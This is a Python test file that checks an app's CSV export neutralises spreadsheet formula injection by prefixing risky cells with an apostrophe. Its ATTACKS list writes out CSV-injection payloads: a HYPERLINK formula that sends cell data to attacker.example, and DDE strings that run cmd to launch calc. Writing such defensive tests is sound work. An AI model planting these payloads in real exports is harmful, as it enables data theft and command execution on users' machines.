"""CSV exports never hand a spreadsheet a formula: text cells that begin with ``= + - @``, a
tab or a carriage return are neutralised (OWASP), everything else is written as it is."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from mitra.services.context import AppContext
from mitra.services.journal import JournalService
from mitra.services.transfer import FORMULA_STARTS, TransferService, neutralise_cell

ATTACKS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@given(st.text())
def test_a_neutralised_cell_never_starts_a_formula(text: str) -> None:
    cell = neutralise_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    # Only the leading apostrophe is added, and only when needed: nothing else changes.
    assert cell in (text, "'" + text)
    assert (cell != text) == text.startswith(FORMULA_STARTS)


def test_formula_notes_are_neutralised_in_the_csv_export(sqlite_ctx: AppContext) -> None:
    journal = JournalService(sqlite_ctx)
    for note in ATTACKS:
        journal.log_dose("2g", at="2026-11-20T10:00:00+00:00", note=note)
    journal.log_dose("1g", at="2026-11-20T11:00:00+00:00", note="a plain note")
    files = TransferService(sqlite_ctx).export_csv()
    rows = list(csv.DictReader(io.StringIO(files["entries.csv"])))
    notes = [row["note"] for row in rows]
    stored = [row["note"] for row in TransferService(sqlite_ctx).tables()["entries"]]
    assert all(note.startswith(FORMULA_STARTS) for note in stored[:-1])
    assert notes == ["'" + note for note in stored[:-1]] + ["a plain note"]
    for name, text in files.items():
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)


def test_numbers_stay_numbers_in_the_csv_export(sqlite_ctx: AppContext) -> None:
    JournalService(sqlite_ctx).log_dose("2.5g", at="2026-11-20T10:00:00+00:00")
    files = TransferService(sqlite_ctx).export_csv()
    dose = next(csv.DictReader(io.StringIO(files["doses.csv"])))
    assert float(dose["amount"]) == 2.5
